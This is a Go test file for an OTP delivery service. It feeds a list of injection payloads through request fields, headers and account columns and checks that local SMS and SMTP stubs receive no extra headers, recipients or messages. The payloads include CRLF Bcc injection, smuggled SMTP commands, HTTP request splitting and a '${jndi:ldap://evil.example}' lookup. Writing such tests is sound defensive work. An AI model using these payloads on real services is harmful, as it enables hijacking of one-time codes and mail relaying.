package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/emersion/go-smtp"
	"github.com/stretchr/testify/require"

	"otpbridge/sql/sqltest"
)

// rawGateway is an SMS gateway that keeps the bytes of each request, because a parser could hide differences.
type rawGateway struct {
	url      string
	mu       sync.Mutex
	requests []rawRequest
}

// rawRequest is one request, and the bytes after its end on the connection.
type rawRequest struct{ head, body, more string }

func startRawGateway(t *testing.T) *rawGateway {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	g := &rawGateway{url: "http://" + listener.Addr().String() + "/send"}
	var serving sync.WaitGroup
	serving.Go(func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			serving.Go(func() { g.answer(conn) })
		}
	})
	t.Cleanup(func() {
		listener.Close()
		serving.Wait()
	})
	return g
}

// answer reads one request by its Content-Length, answers it, and keeps it.
func (g *rawGateway) answer(conn net.Conn) {
	defer conn.Close()
	var r rawRequest
	lines := bufio.NewReader(conn)
	for !strings.HasSuffix(r.head, "\r\n\r\n") {
		line, err := lines.ReadString('\n')
		if err != nil {
			return
		}
		r.head += line
	}
	_, rest, _ := strings.Cut(r.head, "Content-Length: ")
	length, _, _ := strings.Cut(rest, "\r\n")
	n, _ := strconv.ParseInt(length, 10, 64)
	body, _ := io.ReadAll(io.LimitReader(lines, n))
	r.body = string(body)
	_, _ = io.WriteString(conn, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
	more, _ := io.ReadAll(lines)
	r.more = string(more)
	g.mu.Lock()
	defer g.mu.Unlock()
	g.requests = append(g.requests, r)
}

func (g *rawGateway) all() []rawRequest {
	g.mu.Lock()
	defer g.mu.Unlock()
	return slices.Clone(g.requests)
}

// mailDrop is a mail server that keeps every envelope and every mail unchanged.
type mailDrop struct {
	address string
	mu      sync.Mutex
	mails   []droppedMail
}

type droppedMail struct {
	from string
	to   []string
	raw  string
}

func startMailDrop(t *testing.T) *mailDrop {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	d := &mailDrop{address: listener.Addr().String()}
	server := smtp.NewServer(smtp.BackendFunc(func(*smtp.Conn) (smtp.Session, error) {
		return &dropSession{drop: d},
			nil
	}))
	server.Domain = "mail.example"
	var serving sync.WaitGroup
	serving.Go(func() { _ = server.Serve(listener) })
	t.Cleanup(func() {
		_ = server.Close()
		serving.Wait()
	})
	return d
}

func (d *mailDrop) all() []droppedMail {
	d.mu.Lock()
	defer d.mu.Unlock()
	return slices.Clone(d.mails)
}

// dropSession is one connection; an envelope is kept whether or not a mail follows.
type dropSession struct {
	drop *mailDrop
	at   int
}

func (s *dropSession) change(change func(*droppedMail)) error {
	s.drop.mu.Lock()
	defer s.drop.mu.Unlock()
	change(&s.drop.mails[s.at])
	return nil
}

func (s *dropSession) Mail(from string, _ *smtp.MailOptions) error {
	s.drop.mu.Lock()
	defer s.drop.mu.Unlock()
	s.at = len(s.drop.mails)
	s.drop.mails = append(s.drop.mails, droppedMail{from: from})
	return nil
}

func (s *dropSession) Rcpt(to string, _ *smtp.RcptOptions) error {
	return s.change(func(m *droppedMail) { m.to = append(m.to, to) })
}

func (s *dropSession) Data(r io.Reader) error {
	raw, err := io.ReadAll(r)
	_ = s.change(func(m *droppedMail) { m.raw = string(raw) })
	return err
}

func (s *dropSession) Reset()        {}
func (s *dropSession) Logout() error { return nil }

// payloads are texts that could add a header, a second recipient or a second message, or be run by a template engine.
// Mallory would get the message.
var payloads = []string{
	"\r\nBcc: mallory@evil.example",
	"\nBcc: mallory@evil.example",
	"\rBcc: mallory@evil.example",
	"\r\n\r\nSecond body",
	"\r\n.\r\nMAIL FROM:<mallory@evil.example>\r\nRCPT TO:<mallory@evil.example>\r\nDATA\r\n",
	"\n.\nMAIL FROM:<mallory@evil.example>\nRCPT TO:<mallory@evil.example>\n",
	"\r\nRCPT TO:<mallory@evil.example>",
	"> RCPT TO:<mallory@evil.example",
	",mallory@evil.example",
	" HTTP/1.1\r\nX-Evil: mallory\r\n\r\nPOST /send HTTP/1.1\r\n",
	"&to=+919999999999&x=",
	`","to":"+919999999999`,
	"%0d%0aBcc:%20mallory@evil.example",
	"\x00mallory",
	"{code}", "{to}", "{{.}}", "{{.Code}}", "${x}", "${jndi:ldap://evil.example}", "#{7*7}",
}

// attack is one try: a field, its value, and the recipients that its messages may reach.
type attack struct {
	field, value string
	number       string
	mailbox      string
	// wording is set if the field is a text in which the account may put the code anywhere.
	wording bool
}

// Callers and accounts control many texts in messages and requests. Whatever such a text contains, a message goes
// once, to the requested recipient only, and has no headers that it should not have.
func TestInjection_NoFieldReachesAHeaderOrASecondRecipient(t *testing.T) {
	t.Parallel()
	gateway, drop := startRawGateway(t), startMailDrop(t)
	profile := filepath.Join(t.TempDir(), "profile.json")
	require.NoError(t, os.WriteFile(profile, []byte(`{"name":"raw",
		"form":{"to":"{to}","text":"{text}","sender":"{sender}","id":"{id}","entity":"{dlt_entity_id}"},
		"headers":{"X-Sender":"{sender}","X-Entity":"{dlt_entity_id}","X-Template":"{dlt_template_id}"}}`), 0o600))
	environ := variables(t, "OTPBRIDGE_FILES_DIR="+filepath.Dir(profile), "OTPBRIDGE_PREFIX_UNVERIFIED=0",
		"OTPBRIDGE_SMS_CHANNELS="+gateway.url+"#profile="+profile+"&sender=SHOP",
		"OTPBRIDGE_EMAIL_CHANNELS=smtp://"+drop.address+"?tls=off&from=codes@shop.example")
	db := sqltest.Connect(t, databaseOf(t, environ))
	s := boot(t, environ...)

	attacks, number := map[string]attack{}, 0 // by number and by mailbox
	begin := func(field, value string) attack {
		number++
		a := attack{field: field, value: value, number: fmt.Sprintf("9195%08d", number),
			mailbox: fmt.Sprintf("p%d@customer.example", number)}
		a.wording = strings.Contains(field, "template") || strings.Contains(field, "override")
		return a
	}
	expect := func(a attack) {
		attacks["+"+a.number], attacks[strings.ToLower(a.mailbox)] = a, a // mail goes to the lower-case form
	}
	// The account's texts use every value that others control.
	const wording = `"name":"Shop","email_enabled":true,"plain_validation_enabled":true,"requests_per_minute":1000000,"departments":["sales"],
		"sms_template":"{code} for {account} {department} {type}","email_template":"Subject: For {account} {department} {type}\n\n{code} for {account}"`
	account := s.account("{" + wording + "}")

	// variants returns a payload alone, after and before a right value.
	variants := func(payload, right string) []string { return []string{payload, right + payload, payload + right} }
	servlet := func(a attack, key, department string, values url.Values) {
		headers := []string{"access_key", key}
		if department != "" {
			headers = append(headers, "department-id", department)
		}
		// Go's client refuses values that cannot be a header's value.
		_, _ = s.try("GET", "/otpauthapi/otpgenservlet?"+values.Encode(), "", headers...)
		expect(a)
	}
	v1 := func(a attack, key string, body map[string]any, headers ...string) {
		text, err := json.Marshal(body)
		require.NoError(t, err)
		_, _ = s.try("POST", "/v1/send", string(text), append([]string{"Authorization", "Bearer " + key, "Content-Type",
			"application/json"}, headers...)...)
		expect(a)
	}
	of := func(a attack) map[string]any {
		return map[string]any{"to": "+" + a.number, "email": a.mailbox, "method": "email", "type": "verification",
			"ip": "203.0.113.7"}
	}
	for _, payload := range payloads {
		for i := range 3 {
			a := begin("mobile", "")
			a.value = variants(payload, a.number)[i]
			servlet(a, account.AccessKey, "", person(a.value, "email", a.mailbox))

			a = begin("email", "")
			a.value = variants(payload, a.mailbox)[i]
			values := person(a.number, "email", a.value)
			a.mailbox = a.value // a strange mailbox is one all the same, if it is one
			servlet(a, account.AccessKey, "", values)

			a = begin("ipaddress", variants(payload, "203.0.113.7")[i])
			servlet(a, account.AccessKey, "", person(a.number, "email", a.mailbox, "ipaddress", a.value))

			a = begin("department-id", variants(payload, "sales")[i])
			servlet(a, account.AccessKey, a.value, person(a.number, "email", a.mailbox))

			for _, field := range []string{"to", "email", "ip", "locale", "template", "type", "method"} {
				a = begin("v1 "+field, "")
				body := of(a)
				right, _ := body[field].(string)
				a.value = variants(payload, right)[i]
				body[field] = a.value
				if field == "email" || field == "to" && strings.Contains(a.value, "@") {
					a.mailbox = a.value
				}
				v1(a, account.APIKey, body)
			}
		}
		for field, value := range map[string]any{
			"metadata": map[string]any{payload: payload}, "binding": map[string]any{payload: payload},
			"fallback": []string{payload}, payload: payload,
		} {
			a := begin("v1 "+field, payload)
			body := of(a)
			body[field] = value
			v1(a, account.APIKey, body)
		}
		for _, header := range []string{"Idempotency-Key", "X-Request-Id"} {
			a := begin(header, payload)
			v1(a, account.APIKey, of(a), header, payload)
		}

		// Operators may write accounts with SQL, so that nothing has checked the columns.
		quoted := func(value any) string {
			text, err := json.Marshal(value)
			require.NoError(t, err)
			return string(text)
		}
		for column, right := range map[string]string{
			"name": "Shop", "sms_sender": "SHOP", "email_sender": "own@shop.example", "dlt_entity_id": "1101",
			"dlt_template_id": "1107",
			"sms_template":    "{code} here", "email_template": "Subject: Hello\n\n{code} here",
		} {
			for _, value := range variants(payload, right) {
				created := s.account("{" + wording + "}")
				_, err := db.Exec("UPDATE otp_auth_config SET "+column+" = ? WHERE esme_address = ?", value, created.Address)
				require.NoError(t, err)
				a := begin(column, value)
				servlet(a, created.AccessKey, "sales", person(a.number, "email", a.mailbox))
			}
		}
		for column, value := range map[string]any{
			"departments": []string{payload},
			"templates": map[string]string{"default": "{code} " + payload, "verification/email": "Subject: Hello " +
				payload + "\n\n{code} " + payload},
		} {
			created := s.account("{" + wording + "}")
			_, err := db.Exec("UPDATE otp_auth_config SET "+column+" = ? WHERE esme_address = ?", quoted(value), created.Address)
			require.NoError(t, err)
			a := begin(column, payload)
			servlet(a, created.AccessKey, payload, person(a.number, "email", a.mailbox))
		}
	}
	eventually(t, "every delivery has ended", func() bool {
		var open int
		require.NoError(t, db.Get(&open, `SELECT COUNT(*) FROM deliveries WHERE leased_until IS NOT NULL`))
		return open == 0
	})

	taken, reached := map[string]int{}, map[string]int{}
	for _, r := range gateway.all() {
		require.Empty(t, r.more, r.head)
		head := strings.TrimSuffix(r.head, "\r\n\r\n")
		require.NotContains(t, strings.ReplaceAll(head, "\r\n", ""), "\n", "%q", head)
		require.NotContains(t, strings.ReplaceAll(head, "\r\n", ""), "\r", "%q", head)
		lines := strings.Split(head, "\r\n")
		require.Equal(t, "POST /send HTTP/1.1", lines[0])
		names := []string{}
		for _, line := range lines[1:] {
			name, _, _ := strings.Cut(line, ": ")
			names = append(names, http.CanonicalHeaderKey(strings.TrimSuffix(name, ":")))
		}
		slices.Sort(names)
		form, err := url.ParseQuery(r.body)
		require.NoError(t, err)
		fields := slices.Sorted(maps.Keys(form))
		// An empty value is left out, in the header and in the form.
		require.Equal(t, slices.Contains(names, "X-Entity"), slices.Contains(fields, "entity"), "%q", head)
		require.Equal(t, []string{"Accept-Encoding", "Content-Length", "Content-Type", "Host", "User-Agent", "X-Sender"},
			without(names, "X-Entity", "X-Template"), "%q", head)
		require.Equal(t, []string{"id", "sender", "text", "to"}, without(fields, "entity"), "%q", r.body)
		for name, values := range form {
			require.Len(t, values, 1, "%s in %q", name, r.body)
		}
		a, asked := attacks[form.Get("to")]
		require.True(t, asked, "nobody asked for an SMS to %q", form.Get("to"))
		taken[form.Get("to")]++
		require.Equal(t, 1, taken[form.Get("to")], "%s %q", a.field, a.value)
		reached["SMS"]++
		if !a.wording {
			requireOneCode(t, a, form.Get("text"))
		}
	}
	for _, m := range drop.all() {
		require.Len(t, m.to, 1, "%q", m)
		a, asked := attacks[m.to[0]]
		require.True(t, asked, "nobody asked for a mail to %q", m.to[0])
		require.NotContains(t, m.from, "mallory", "%s %q", a.field, a.value)
		taken[m.to[0]]++
		require.Equal(t, 1, taken[m.to[0]], "%s %q", a.field, a.value)
		head, _, found := strings.Cut(m.raw, "\r\n\r\n")
		require.True(t, found, "%q", m.raw)
		require.NotContains(t, strings.ReplaceAll(m.raw, "\r\n", ""), "\n", "%q", m.raw)
		require.NotContains(t, strings.ReplaceAll(m.raw, "\r\n", ""), "\r", "%q", m.raw)
		header, err := textproto.NewReader(bufio.NewReader(strings.NewReader(head + "\r\n\r\n"))).ReadMIMEHeader()
		require.NoError(t, err)
		require.Equal(t, []string{
			"Auto-Submitted", "Content-Transfer-Encoding", "Content-Type", "Date", "Expires", "From", "Message-Id",
			"Mime-Version", "Subject", "To",
		}, slices.Sorted(maps.Keys(header)), "%q", head)
		for name, values := range header {
			require.Len(t, values, 1, "%s in %q", name, head)
		}
		require.Equal(t, "<"+m.to[0]+">", header.Get("To"))
		require.Equal(t, "text/plain; charset=UTF-8", header.Get("Content-Type"))
		require.NotRegexp(t, `\b[0-9]{6}\b`, header.Get("Subject"), "%s %q", a.field, a.value)
		reached["mail"]++
	}
	for address := range taken {
		require.NotEqual(t, "+919999999999", address)
		require.False(t, strings.HasSuffix(address, "@evil.example"), address)
	}
	t.Logf("%d attacks, of which %d led to an SMS and %d to a mail", number, reached["SMS"], reached["mail"])
	require.Greater(t, reached["SMS"], number/10, "hardly anything was sent, so hardly anything was seen")
	require.Greater(t, reached["mail"], number/10, "hardly anything was sent, so hardly anything was seen")
}

// requireOneCode checks that a text has its code once: a placeholder in a value that somebody else wrote is not
// replaced.
func requireOneCode(t *testing.T, a attack, text string) {
	t.Helper()
	code, _, _ := strings.Cut(text, " ")
	require.Regexp(t, `^[0-9]{6}$`, code, "%q", text)
	require.Equal(t, 1, strings.Count(text, code), "%s %q gave %q", a.field, a.value, text)
}

// without returns a list without the members that may be in it once.
func without(list []string, optional ...string) []string {
	rest := slices.Clone(list)
	for _, name := range optional {
		if i := slices.Index(rest, name); i >= 0 {
			rest = slices.Delete(rest, i, i+1)
		}
	}
	return rest
}
